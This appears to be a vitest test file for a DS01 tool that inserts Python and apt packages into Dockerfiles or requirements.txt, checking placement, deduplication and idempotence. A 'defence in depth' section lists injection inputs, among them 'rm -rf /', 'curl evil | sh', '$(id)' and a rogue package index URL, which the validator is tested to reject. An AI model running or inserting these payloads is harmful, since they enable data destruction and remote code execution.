import { describe, expect, it } from 'vitest';
import { planImageEdit, usesRequirementsTxt, type ImageEditInput } from '../../workers/images/dockerfile-edit.js';
import { Ds01Error, ErrorCode } from '../../src/shared/errors.js';
import { MAX_DOCKERFILE_CHARS } from '../../workers/images/dockerfile-parse.js';
import { MAX_REQUIREMENTS_CHARS } from '../../workers/images/requirements-txt.js';

// What DS01's generator writes for a new project (abridged: the user-setup RUN is left out).
const GENERATED = `# DS01 Project Dockerfile
# Project: demo
#
# Build with: image-update demo

FROM aimehub/pytorch-2.8.0-aime-cuda12.6.3

# DS01 metadata labels
LABEL ds01.project="demo"
LABEL ds01.managed="true"

# Build arguments (set automatically by DS01)
ARG DS01_USER_ID=1001
ARG DS01_GROUP_ID=1001
ARG DS01_USERNAME=alice

# System packages
RUN apt-get update && apt-get install -y --no-install-recommends \\
    git \\
    curl \\
    wget \\
    vim \\
    htop \\
    && rm -rf /var/lib/apt/lists/*

# Core Data Science
RUN pip install --no-cache-dir \\
    pandas \\
    scipy \\
    scikit-learn \\
    matplotlib \\
    seaborn

# Custom additional packages
# Add packages here with: image-update <project> then "Add Python packages"
# Or edit this file directly and rebuild

# Configure Jupyter Lab
RUN jupyter lab --generate-config 2>/dev/null || true && \\
    mkdir -p /root/.jupyter && \\
    echo "c.ServerApp.ip = '0.0.0.0'" >> /root/.jupyter/jupyter_lab_config.py

# Working directory (mapped to ~/workspace/<project>)
WORKDIR /workspace

# Default command
CMD ["/bin/bash"]
`;

// A Dockerfile after image-update has added packages once (the custom RUN sits under the marker).
const AFTER_IMAGE_UPDATE = `FROM aimehub/pytorch-2.8.0-aime-cuda12.6.3

WORKDIR /workspace

# System packages
RUN apt-get update && apt-get install -y --no-install-recommends \\
    git \\
    htop \\
    && rm -rf /var/lib/apt/lists/*

# Custom additional packages
RUN pip install --no-cache-dir \\
    faiss-cpu \\
    sentence-transformers

# User/Group Setup
ARG DS01_USER_ID
RUN set -e && \\
    if [ -n "$DS01_USER_ID" ]; then \\
        # Step 1: make the user
        echo "setting up" && \\
        echo 'export PATH="$HOME/.local/bin:$PATH"' >> /root/.bashrc; \\
    fi

ENV PYTHONUNBUFFERED=1

CMD ["/bin/bash"]
`;

const WITH_REQUIREMENTS = `FROM python:3.11-slim

WORKDIR /app

RUN apt-get update && apt-get install -y git && rm -rf /var/lib/apt/lists/*

# Python dependencies (cached layer)
COPY requirements.txt /tmp/requirements.txt
RUN pip install --no-cache-dir -r /tmp/requirements.txt

COPY src/ /app/src/
CMD ["python", "-m", "app"]
`;

const MINIMAL = `FROM python:3.11-slim
WORKDIR /app
CMD ["python"]
`;

function plan(partial: Partial<ImageEditInput> & { dockerfile: string }) {
  return planImageEdit({ requirementsTxt: null, python: [], system: [], ...partial });
}

/** Removes `inserted` (once) from `after`; what is left must be the original text. */
function withoutInsertion(after: string, inserted: string): string {
  const at = after.indexOf(inserted);
  expect(at).toBeGreaterThanOrEqual(0);
  return after.slice(0, at) + after.slice(at + inserted.length);
}

describe('Python packages into the Dockerfile', () => {
  it('extends the RUN pip install under the marker, one package per line, quoting specifiers', () => {
    const r = plan({ dockerfile: AFTER_IMAGE_UPDATE, python: ['einops', 'rich>=13', 'transformers[torch]>=4.40'] });
    expect(r.changed).toBe(true);
    expect(r.pythonTarget).toBe('dockerfile');
    expect(r.added.python).toEqual(['einops', 'rich>=13', 'transformers[torch]>=4.40']);
    const inserted = "    einops \\\n    'rich>=13' \\\n    'transformers[torch]>=4.40'";
    expect(r.dockerfile).toContain(`# Custom additional packages
RUN pip install --no-cache-dir \\
    faiss-cpu \\
    sentence-transformers \\
${inserted}

# User/Group Setup`);
    // Only a ` \` was added to the old last line; everything else is untouched.
    expect(withoutInsertion(r.dockerfile, ` \\\n${inserted}`)).toBe(AFTER_IMAGE_UPDATE);
  });

  it('creates the RUN line directly under an existing marker', () => {
    const r = plan({ dockerfile: GENERATED, python: ['einops'] });
    const inserted = 'RUN pip install --no-cache-dir \\\n    einops\n\n';
    expect(r.dockerfile).toContain(`# Custom additional packages\n${inserted}# Add packages here`);
    expect(withoutInsertion(r.dockerfile, inserted)).toBe(GENERATED);
  });

  it('creates the marker and RUN line before CMD when there is no marker', () => {
    const r = plan({ dockerfile: MINIMAL, python: ['einops', 'rich==13.7.1'] });
    expect(r.dockerfile).toBe(`FROM python:3.11-slim
WORKDIR /app

# Custom additional packages
RUN pip install --no-cache-dir \\
    einops \\
    rich==13.7.1

CMD ["python"]
`);
  });

  it('places the new block above the comments that belong to CMD, and before a USER switch', () => {
    const df = 'FROM python:3.11\nRUN pip install x\n\nUSER app\n# start it\nCMD ["python"]\n';
    const r = plan({ dockerfile: df, python: ['einops'] });
    expect(r.dockerfile).toBe(
      'FROM python:3.11\nRUN pip install x\n\n# Custom additional packages\nRUN pip install --no-cache-dir \\\n    einops\n\nUSER app\n# start it\nCMD ["python"]\n',
    );
    const r2 = plan({ dockerfile: 'FROM python:3.11\nRUN true\n# start it\nCMD ["python"]\n', python: ['einops'] });
    expect(r2.dockerfile).toContain('RUN true\n\n# Custom additional packages\nRUN pip install --no-cache-dir \\\n    einops\n\n# start it\nCMD');
  });

  it('appends at the end, keeping a missing final newline missing', () => {
    const r = plan({ dockerfile: 'FROM python:3.11\nRUN echo hi', python: ['einops'] });
    expect(r.dockerfile).toBe('FROM python:3.11\nRUN echo hi\n\n# Custom additional packages\nRUN pip install --no-cache-dir \\\n    einops');
    const r2 = plan({ dockerfile: 'FROM python:3.11\n', python: ['einops'] });
    expect(r2.dockerfile).toBe('FROM python:3.11\n\n# Custom additional packages\nRUN pip install --no-cache-dir \\\n    einops\n');
  });

  it('ignores a marker and pip installs in an earlier build stage', () => {
    const df = `FROM python:3.11 AS builder
# Custom additional packages
RUN pip install --no-cache-dir einops

FROM python:3.11-slim
COPY --from=builder /wheels /wheels
CMD ["python"]
`;
    const r = plan({ dockerfile: df, python: ['einops'] });
    expect(r.added.python).toEqual(['einops']);
    expect(r.dockerfile.indexOf('# Custom additional packages', df.indexOf('FROM python:3.11-slim'))).toBeGreaterThan(0);
    expect(r.dockerfile.startsWith(df.slice(0, df.indexOf('CMD')))).toBe(true);
  });

  it('extends a single-line pip install on the same line', () => {
    const df = 'FROM python:3.11\n# Custom additional packages\nRUN pip install --no-cache-dir einops && pip cache purge\nCMD ["python"]\n';
    const r = plan({ dockerfile: df, python: ['rich', 'httpx>=0.27'] });
    expect(r.dockerfile).toBe('FROM python:3.11\n# Custom additional packages\nRUN pip install --no-cache-dir einops rich \'httpx>=0.27\' && pip cache purge\nCMD ["python"]\n');
  });
});

describe('no duplicates, replacement in place', () => {
  it('does not add a package that is already installed anywhere in the final stage', () => {
    const r = plan({ dockerfile: GENERATED, python: ['pandas', 'Scikit_Learn'], system: ['git', 'htop'] });
    expect(r.changed).toBe(false);
    expect(r.dockerfile).toBe(GENERATED);
    expect(r.alreadyPresent).toEqual({ python: ['pandas', 'Scikit_Learn'], system: ['git', 'htop'] });
  });

  it('replaces the old specifier in place when a new version is asked for', () => {
    const r = plan({ dockerfile: GENERATED, python: ['scipy==1.13.1', 'scikit_learn>=1.5'] });
    expect(r.changed).toBe(true);
    expect(r.added.python).toEqual([]);
    expect(r.replaced.python).toEqual([
      { from: 'scipy', to: 'scipy==1.13.1' },
      { from: 'scikit-learn', to: 'scikit_learn>=1.5' },
    ]);
    expect(r.dockerfile).toBe(GENERATED.replace('    scipy \\', '    scipy==1.13.1 \\').replace('    scikit-learn \\', "    'scikit_learn>=1.5' \\"));
  });

  it('a bare name does not remove an existing pin', () => {
    const df = "FROM python:3.11\n# Custom additional packages\nRUN pip install --no-cache-dir \\\n    'rich==13.7.1'\n";
    const r = plan({ dockerfile: df, python: ['rich'] });
    expect(r.changed).toBe(false);
    expect(r.alreadyPresent.python).toEqual(['rich']);
  });

  it('treats differently spaced or unquoted existing specs as the same', () => {
    const df = 'FROM python:3.11\nRUN pip install --no-cache-dir "rich >= 13" torch==2.3.0\n';
    const r = plan({ dockerfile: df, python: ['rich>=13', 'torch==2.3.0'] });
    expect(r.changed).toBe(false);
  });

  it('replaces a pinned system package version', () => {
    const df = 'FROM ubuntu:22.04\nRUN apt-get update && apt-get install -y ffmpeg=7:4.4.2-0ubuntu0.22.04.1 git\n';
    const r = plan({ dockerfile: df, system: ['ffmpeg=7:4.4.2-0ubuntu0.22.04.2'] });
    expect(r.replaced.system).toEqual([{ from: 'ffmpeg=7:4.4.2-0ubuntu0.22.04.1', to: 'ffmpeg=7:4.4.2-0ubuntu0.22.04.2' }]);
    expect(r.dockerfile).toBe("FROM ubuntu:22.04\nRUN apt-get update && apt-get install -y 'ffmpeg=7:4.4.2-0ubuntu0.22.04.2' git\n");
  });
});

describe('requirements.txt route', () => {
  it('detects when the Dockerfile copies and pip installs requirements.txt', () => {
    expect(usesRequirementsTxt(WITH_REQUIREMENTS)).toBe(true);
    expect(usesRequirementsTxt('FROM x\nCOPY . /app\nWORKDIR /app\nRUN pip install -r requirements.txt\n')).toBe(true);
    expect(usesRequirementsTxt('FROM x\nCOPY ["requirements.txt", "/tmp/"]\nRUN pip3 install --requirement=/tmp/requirements.txt\n')).toBe(true);
    expect(usesRequirementsTxt('FROM x\nCOPY --chown=1000 ./requirements.txt .\nRUN python3 -m pip install -rrequirements.txt\n')).toBe(true);
    // Copied but never installed, installed but not copied from the project, or copied from a stage.
    expect(usesRequirementsTxt('FROM x\nCOPY requirements.txt /tmp/\nRUN pip install einops\n')).toBe(false);
    expect(usesRequirementsTxt('FROM x\nRUN pip install -r /opt/requirements.txt\n')).toBe(false);
    expect(usesRequirementsTxt('FROM x AS b\nFROM y\nCOPY --from=b /requirements.txt .\nRUN pip install -r requirements.txt\n')).toBe(false);
    expect(usesRequirementsTxt(GENERATED)).toBe(false);
  });

  it('adds Python packages to requirements.txt and leaves the Dockerfile alone', () => {
    const req = '# pinned\ntorch==2.3.0\nnumpy>=1.26  # keep\n';
    const r = plan({ dockerfile: WITH_REQUIREMENTS, requirementsTxt: req, python: ['einops', 'rich>=13'] });
    expect(r.pythonTarget).toBe('requirements.txt');
    expect(r.dockerfile).toBe(WITH_REQUIREMENTS);
    expect(r.requirementsTxt).toBe(`${req}einops\nrich>=13\n`);
  });

  it('replaces an entry in place, keeping its comment, and does not duplicate', () => {
    const req = '# pinned\r\ntorch==2.3.0\r\nNumPy>=1.26  # keep\r\n-e ./local\r\n';
    const r = plan({ dockerfile: WITH_REQUIREMENTS, requirementsTxt: req, python: ['numpy==2.0.1', 'torch==2.3.0'] });
    expect(r.requirementsTxt).toBe('# pinned\r\ntorch==2.3.0\r\nnumpy==2.0.1  # keep\r\n-e ./local\r\n');
    expect(r.alreadyPresent.python).toEqual(['torch==2.3.0']);
  });

  it('keeps a missing final newline, and creates the file when it does not exist', () => {
    expect(plan({ dockerfile: WITH_REQUIREMENTS, requirementsTxt: 'torch', python: ['einops'] }).requirementsTxt).toBe('torch\neinops');
    expect(plan({ dockerfile: WITH_REQUIREMENTS, requirementsTxt: null, python: ['einops'] }).requirementsTxt).toBe('einops\n');
  });

  it('still puts system packages into the Dockerfile', () => {
    const r = plan({ dockerfile: WITH_REQUIREMENTS, requirementsTxt: '', system: ['ffmpeg'], python: ['einops'] });
    expect(r.requirementsTxt).toBe('einops\n');
    expect(r.dockerfile).toBe(WITH_REQUIREMENTS.replace('install -y git &&', 'install -y git ffmpeg &&'));
  });
});

describe('system packages', () => {
  it('extends a multi-line apt-get install before the `&& rm` line', () => {
    const r = plan({ dockerfile: GENERATED, system: ['ffmpeg', 'libsndfile1'] });
    const inserted = '    ffmpeg \\\n    libsndfile1 \\\n';
    expect(r.dockerfile).toContain(`    htop \\\n${inserted}    && rm -rf /var/lib/apt/lists/*`);
    expect(withoutInsertion(r.dockerfile, inserted)).toBe(GENERATED);
  });

  it('extends an apt-get install whose last package ends the RUN', () => {
    const df = 'FROM ubuntu\nRUN apt-get update && \\\n    apt-get -y install --no-install-recommends \\\n        git \\\n        # audio\n        sox\nCMD ["bash"]\n';
    const r = plan({ dockerfile: df, system: ['ffmpeg'] });
    expect(r.dockerfile).toBe(
      'FROM ubuntu\nRUN apt-get update && \\\n    apt-get -y install --no-install-recommends \\\n        git \\\n        # audio\n        sox \\\n        ffmpeg\nCMD ["bash"]\n',
    );
  });

  it('extends a one-line apt-get install on the same line', () => {
    const df = 'FROM ubuntu\nRUN DEBIAN_FRONTEND=noninteractive apt-get install -y -o Dpkg::Use-Pty=0 git curl; rm -rf /var/lib/apt/lists/*\n';
    const r = plan({ dockerfile: df, system: ['ffmpeg'] });
    expect(r.dockerfile).toBe('FROM ubuntu\nRUN DEBIAN_FRONTEND=noninteractive apt-get install -y -o Dpkg::Use-Pty=0 git curl ffmpeg; rm -rf /var/lib/apt/lists/*\n');
  });

  it('adds a managed apt block when there is no apt-get install, before the Python packages', () => {
    const df = `FROM python:3.11-slim
WORKDIR /app

# Custom additional packages
RUN pip install --no-cache-dir einops

CMD ["python"]
`;
    const r = plan({ dockerfile: df, system: ['ffmpeg', 'libsndfile1'] });
    const block = `# DS01 system packages
RUN apt-get update && apt-get install -y --no-install-recommends \\
    ffmpeg \\
    libsndfile1 \\
    && rm -rf /var/lib/apt/lists/*

`;
    expect(r.dockerfile).toBe(df.replace('# Custom additional packages', `${block}# Custom additional packages`));
  });

  it('puts a new apt block and a new pip block together, apt first, before USER', () => {
    const df = 'FROM python:3.11-slim\nWORKDIR /app\nUSER app\nCMD ["python"]';
    const r = plan({ dockerfile: df, system: ['ffmpeg'], python: ['einops'] });
    expect(r.dockerfile).toBe(
      'FROM python:3.11-slim\nWORKDIR /app\n\n# DS01 system packages\nRUN apt-get update && apt-get install -y --no-install-recommends \\\n    ffmpeg \\\n    && rm -rf /var/lib/apt/lists/*\n\n# Custom additional packages\nRUN pip install --no-cache-dir \\\n    einops\n\nUSER app\nCMD ["python"]',
    );
  });

  it('puts the apt block above the COPY that feeds pip install -r', () => {
    const df = 'FROM python:3.11\n\nCOPY requirements.txt .\nRUN pip install -r requirements.txt\n';
    const r = plan({ dockerfile: df, requirementsTxt: '', system: ['ffmpeg'] });
    expect(r.dockerfile).toBe(
      'FROM python:3.11\n\n# DS01 system packages\nRUN apt-get update && apt-get install -y --no-install-recommends \\\n    ffmpeg \\\n    && rm -rf /var/lib/apt/lists/*\n\nCOPY requirements.txt .\nRUN pip install -r requirements.txt\n',
    );
  });
});

describe('preservation and idempotence', () => {
  it('keeps CRLF line endings and adds CRLF lines', () => {
    const crlf = GENERATED.replace(/\n/g, '\r\n');
    const r = plan({ dockerfile: crlf, python: ['einops', 'scipy==1.13.1'], system: ['ffmpeg'] });
    expect(r.changed).toBe(true);
    expect(r.dockerfile.replace(/\r\n/g, '')).not.toContain('\n');
    const lf = plan({ dockerfile: GENERATED, python: ['einops', 'scipy==1.13.1'], system: ['ffmpeg'] });
    expect(r.dockerfile).toBe(lf.dockerfile.replace(/\n/g, '\r\n'));
  });

  it('keeps bytes it does not understand, such as UTF-8 comments and odd RUN lines', () => {
    const df = 'FROM python:3.11\n# Käse 🧀 comment\nRUN <<EOF\nRUN pip install einops\nEOF\nRUN ["pip", "install", "einops"]\n';
    const r = plan({ dockerfile: df, python: ['einops'] });
    expect(r.dockerfile.startsWith(df)).toBe(true);
    expect(r.added.python).toEqual(['einops']);
  });

  it('leaves commands with substitutions or subshells alone and uses a block of its own', () => {
    const df = 'FROM ubuntu\nRUN apt-get update && apt-get install -y $(cat apt.txt) && (cd /x; make)\nRUN pip install `cat py.txt`\n';
    const r = plan({ dockerfile: df, python: ['einops'], system: ['ffmpeg'] });
    expect(r.dockerfile.startsWith(df)).toBe(true);
    expect(r.dockerfile).toContain('# DS01 system packages\n');
    expect(r.dockerfile).toContain('# Custom additional packages\n');
  });

  const cases: Array<[string, ImageEditInput]> = [
    ['generated', { dockerfile: GENERATED, requirementsTxt: null, python: ['einops', 'rich>=13', 'scipy==1.13'], system: ['ffmpeg'] }],
    ['after image-update', { dockerfile: AFTER_IMAGE_UPDATE, requirementsTxt: null, python: ['einops'], system: ['ffmpeg=7:6.1'] }],
    ['requirements', { dockerfile: WITH_REQUIREMENTS, requirementsTxt: 'torch\n', python: ['einops', 'torch==2.3'], system: ['ffmpeg'] }],
    ['minimal', { dockerfile: MINIMAL, requirementsTxt: null, python: ['transformers[torch]>=4.40'], system: ['ffmpeg', 'sox'] }],
    ['crlf, no final newline', { dockerfile: 'FROM x\r\nRUN true', requirementsTxt: null, python: ['einops'], system: ['ffmpeg'] }],
    ['empty', { dockerfile: '', requirementsTxt: null, python: ['einops'], system: ['ffmpeg'] }],
  ];

  it.each(cases)('applying the same edit twice changes nothing the second time (%s)', (_name, input) => {
    const first = planImageEdit(input);
    expect(first.changed).toBe(true);
    const second = planImageEdit({ ...input, dockerfile: first.dockerfile, requirementsTxt: first.requirementsTxt });
    expect(second.changed).toBe(false);
    expect(second.dockerfile).toBe(first.dockerfile);
    expect(second.requirementsTxt).toBe(first.requirementsTxt);
    expect(second.added).toEqual({ python: [], system: [] });
  });

  it('an empty request changes nothing', () => {
    const r = plan({ dockerfile: GENERATED });
    expect(r.changed).toBe(false);
    expect(r.dockerfile).toBe(GENERATED);
  });
});

describe('defence in depth', () => {
  const hostile: Array<[string, Partial<ImageEditInput>]> = [
    ['shell in python', { python: ['numpy; rm -rf /'] }],
    ['newline injection', { python: ['numpy\nRUN curl evil | sh'] }],
    ['backslash continuation', { python: ['numpy \\'] }],
    ['quote', { python: ["numpy'"] }],
    ['command substitution', { python: ['$(id)'] }],
    ['pip option', { python: ['--index-url=http://evil'] }],
    ['url', { python: ['pkg @ https://evil/x.whl'] }],
    ['not normalised', { python: ['rich >= 13'] }],
    ['duplicate', { python: ['numpy', 'NumPy==2.0'] }],
    ['homoglyph', { python: ['numpу'] }],
    ['apt option', { system: ['-o APT::x'] }],
    ['apt shell', { system: ['ffmpeg; id'] }],
    ['too many', { python: Array.from({ length: 51 }, (_, i) => `p${i}`) }],
  ];

  it.each(hostile)('throws BadInput for specs that skipped validation (%s)', (_name, partial) => {
    let thrown: unknown;
    try {
      plan({ dockerfile: GENERATED, ...partial });
    } catch (err) {
      thrown = err;
    }
    expect(thrown).toBeInstanceOf(Ds01Error);
    expect((thrown as Ds01Error).code).toBe(ErrorCode.BadInput);
  });

  it('refuses a Dockerfile with a custom escape character rather than guess', () => {
    expect(() => plan({ dockerfile: '# escape=`\nFROM mcr.microsoft.com/windows\n', python: ['einops'] })).toThrow(Ds01Error);
  });
});

describe('hostile files in the project folder', () => {
  const userError = (fn: () => unknown): Ds01Error => {
    try {
      fn();
    } catch (err) {
      if (err instanceof Ds01Error) return err;
      throw err;
    }
    throw new Error('expected a refusal');
  };

  it('refuses a Dockerfile over the size cap with a sentence, and changes nothing', () => {
    const err = userError(() => plan({ dockerfile: `FROM python:3.11\n${' '.repeat(MAX_DOCKERFILE_CHARS)}\n`, python: ['einops'] }));
    expect(err.code).toBe(ErrorCode.BadInput);
    expect(err.userMessage).toMatch(/^Your Dockerfile is larger than \d+ kB.*nothing was changed/);
  });

  it('refuses a requirements.txt over the size cap when it is the file to edit', () => {
    const err = userError(() =>
      plan({
        dockerfile: 'FROM python:3.11\nCOPY requirements.txt .\nRUN pip install -r requirements.txt\n',
        requirementsTxt: 'x'.repeat(MAX_REQUIREMENTS_CHARS + 1),
        python: ['einops'],
      }),
    );
    expect(err.code).toBe(ErrorCode.BadInput);
    expect(err.userMessage).toMatch(/requirements\.txt is larger than/);
  });

  it('reads long runs of spaces, dots and backslashes in pip words as the words they are', () => {
    const spaces = ' '.repeat(50_000);
    const df = `FROM python:3.11\nRUN pip install 'rich${spaces}>=13' a${'.'.repeat(50_000)}b \\${spaces}\n    numpy\n`;
    const r = plan({ dockerfile: df, python: ['rich==13.7.1', 'numpy'] });
    // The quoted word is not a requirement this editor can normalise, so it is replaced as a whole.
    expect(r.replaced.python).toEqual([{ from: `rich${spaces}>=13`, to: 'rich==13.7.1' }]);
    expect(r.alreadyPresent.python).toEqual(['numpy']);
  });

  it('keeps every heredoc form opaque up to its terminator', () => {
    for (const marker of ['<<EOF', '<<-EOF', '<<"EOF"', "<<'EOF'", '<< EOF']) {
      const body = marker === '<<-EOF' ? '\tpip install einops\n\tEOF\n' : 'pip install einops\nEOF\n';
      const df = `FROM python:3.11\nRUN ${marker}\n${body}USER app\n`;
      const r = plan({ dockerfile: df, python: ['einops'] });
      expect(r.added.python, marker).toEqual(['einops']);
      // The new block goes before USER, after the heredoc's terminator, never inside the body.
      expect(r.dockerfile.indexOf('# Custom additional packages'), marker).toBeGreaterThan(r.dockerfile.indexOf('EOF\n'));
    }
  });

  it('refuses to add lines after a heredoc that is never closed, or after a trailing backslash', () => {
    // Found by the property tests: a block appended at the end landed inside the heredoc's text,
    // or joined the dangling instruction, and the next edit added it again.
    const open = userError(() => plan({ dockerfile: 'FROM python:3.11\nRUN <<EOF\npip install x\n', system: ['git'] }));
    expect(open.userMessage).toMatch(/heredoc .* never closed.*Nothing was changed/);
    const dangling = userError(() => plan({ dockerfile: 'FROM python:3.11\nRUN echo hi \\\n', python: ['einops'] }));
    expect(dangling.userMessage).toMatch(/ends with `\\`.*nothing was changed/);
    // With a USER line the block goes before it, so the trailing backslash does not matter.
    expect(plan({ dockerfile: 'FROM python:3.11\nUSER app\nRUN echo hi \\\n', python: ['einops'] }).added.python).toEqual(['einops']);
  });

  it('still reads parser directives at the top, with spaces around `=`', () => {
    expect(() => plan({ dockerfile: '#  escape = `\nFROM x\n', python: ['einops'] })).toThrow(Ds01Error);
    expect(plan({ dockerfile: '# syntax=docker/dockerfile:1\n# escape=\\\nFROM x\n', python: ['einops'] }).added.python).toEqual(['einops']);
  });
});
